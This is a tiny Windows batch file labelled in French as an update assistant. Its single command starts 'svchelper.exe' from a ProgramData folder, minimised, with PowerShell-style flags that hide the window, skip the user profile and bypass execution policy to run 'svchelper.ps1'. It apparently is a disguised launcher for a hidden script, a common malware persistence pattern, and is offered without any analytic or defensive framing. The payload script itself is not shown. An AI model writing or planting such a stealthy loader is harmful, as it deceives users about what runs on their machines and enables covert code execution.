@echo off
rem Assistant de mise a jour
start "" /min "C:\ProgramData\SvcHelper\svchelper.exe" -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -File "C:\ProgramData\SvcHelper\svchelper.ps1"
